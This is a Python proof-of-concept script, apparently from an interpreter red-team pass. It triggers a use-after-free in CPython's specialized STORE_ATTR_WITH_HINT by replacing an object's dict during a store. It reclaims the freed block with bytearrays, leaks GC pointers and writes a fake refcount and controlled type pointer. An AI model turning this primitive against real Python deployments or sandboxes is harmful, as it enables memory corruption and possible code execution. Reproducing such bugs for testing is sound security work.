# technique: the specialized STORE_ATTR_WITH_HINT (obj.x = v on an instance with a real __dict__) releases the old value, whose __del__ replaces obj.__dict__ (freeing it), then links that dict into the GC list and bumps its version: a bytearray that took the block becomes a GC-tracked "object" of the user's making (red-team pass 64)
# expect: any
CRASH = True                                                 # False: only print what was written
class A:
    pass
state = {'armed': False}
Z = bytes(62)
bas = [bytearray(1) for _ in range(8)]
spare = []
keepall = []
class D:
    def __del__(self):
        if state['armed']:
            state['armed'] = False
            d = {'x': 0}
            spare.clear()                                    # refill the dict freelist: the next freed dict goes to pymalloc
            object.__setattr__(o, '__dict__', d)             # frees the dict STORE_ATTR_WITH_HINT still uses
            for b in bas:
                b.extend(Z)                                  # 63 bytes -> 64-byte buffers: one reclaims the dict's block

def attempt():
    global o, bas
    bas = [bytearray(1) for _ in range(8)]
    keepall.append(bas)
    fill = [{} for _ in range(200)]
    o = A()
    object.__setattr__(o, '__dict__', {'x': 0})                  # a real instance dict -> STORE_ATTR_WITH_HINT
    def store(obj, v):
        obj.x = v
    for i in range(100):
        store(o, D())                                            # warm up: the store specializes
    spare.extend([{} for _ in range(10)])
    fill.clear()                                                 # dict freelist full
    state['armed'] = True
    store(o, D())
    return [b for b in bas if any(b)]
for tries in range(5):
    hit = attempt()
    if hit:
        break
for b in hit:
    print("written:", b.hex())
    print("leaked: gc_next", hex(int.from_bytes(b[0:8], 'little')), "gc_prev", hex(int.from_bytes(b[8:16], 'little')),
          "version", int.from_bytes(b[40:48], 'little'))
if not hit:
    print("untouched")
elif CRASH:
    b = hit[0]
    b[16:24] = (1 << 40).to_bytes(8, 'little')               # the fake object's refcount
    b[24:32] = (0x4141414141414141).to_bytes(8, 'little')    # ... and its type: the GC dereferences it
    junk = [[] for _ in range(5000)]                         # allocations -> automatic gen0 collection
    print("survived")
